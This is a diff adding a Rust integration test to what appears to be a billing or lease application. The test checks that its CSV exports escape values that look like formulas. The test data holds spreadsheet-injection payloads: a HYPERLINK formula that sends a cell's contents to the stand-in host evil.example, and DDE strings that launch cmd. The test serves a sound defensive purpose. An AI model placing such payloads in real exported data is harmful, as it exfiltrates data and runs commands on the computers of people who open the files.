@@ -217,3 +217,66 @@ on_both_databases!(
         assert_eq!(refused.code(), Some("NOT_FOUND"), "{}", refused.0);
     }
 );
+
+on_both_databases!(
+    exported_cells_that_look_like_formulas_are_written_as_text,
+    |backend: Backend| async move {
+        let Some(app) = app(backend).await else {
+            return;
+        };
+        let (admin, _) = app.login_as("ops@dongsoc.example").await;
+        let month = first_of_month(today()) + Months::new(1);
+        let (cluster, _, firm) = arrange(&app, &admin, "CCN Công thức", month).await;
+        app.graphql(
+            Some(&admin),
+            "mutation($id: ID!, $i: FirmFields!) { updateFirm(id: $id, input: $i) { id } }",
+            json!({ "id": firm, "i": { "name": "=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Xem\")",
+                "taxCode": "0101234567", "address": "-2+3+cmd|' /C calc'!A0" } }),
+        )
+        .await
+        .ok();
+        app.graphql(Some(&admin), ISSUE, run(&cluster, month))
+            .await
+            .ok();
+        app.graphql(
+            Some(&admin),
+            PAY,
+            json!({ "i": { "firmId": firm, "amount": 1000, "method": "BANK_TRANSFER",
+                "receivedOn": today().to_string(), "idempotencyKey": "formula",
+                "bankReference": "@SUM(1+1)*cmd|\" /C calc\"!A0" } }),
+        )
+        .await
+        .ok();
+        let get = |path: String| {
+            let app = &app;
+            let admin = admin.clone();
+            async move {
+                let response = app
+                    .client
+                    .get(format!("{}{path}", app.address))
+                    .bearer_auth(&admin)
+                    .send()
+                    .await
+                    .unwrap();
+                assert_eq!(response.status(), 200, "{path}");
+                response.text().await.unwrap()
+            }
+        };
+        let firms = get("/export/firms.csv".into()).await;
+        assert!(firms.contains("\"'=HYPERLINK("), "{firms}");
+        assert!(firms.contains("'-2+3+cmd"), "{firms}");
+        assert!(!firms.contains(",=HYPERLINK") && !firms.contains("\"=HYPERLINK"));
+        let leases = get("/export/leases.csv".into()).await;
+        assert!(leases.contains("\"'=HYPERLINK("), "{leases}");
+        let statement = get(format!(
+            "/export/statement.csv?firm={}&from={}&to={}",
+            firm.as_str().unwrap(),
+            today() - chrono::Duration::days(40),
+            today() + chrono::Duration::days(400)
+        ))
+        .await;
+        assert!(statement.contains("'@SUM(1+1)"), "{statement}");
+        // Amounts stay numbers, negative balances included.
+        assert!(!statement.contains("'-"), "{statement}");
+    }
+);
